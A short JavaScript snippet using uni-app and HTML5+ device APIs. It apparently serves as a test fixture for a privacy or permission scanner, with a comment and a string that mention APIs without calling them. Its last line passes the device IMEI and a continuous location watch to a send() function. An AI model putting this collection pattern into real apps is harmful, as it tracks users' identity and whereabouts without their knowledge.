// uni.chooseImage() is not called here
var note = "uni.getClipboardData()";
uni.getLocation({ type: "gcj02" });
send(plus.device.imei, navigator.geolocation["watchPosition"](f));
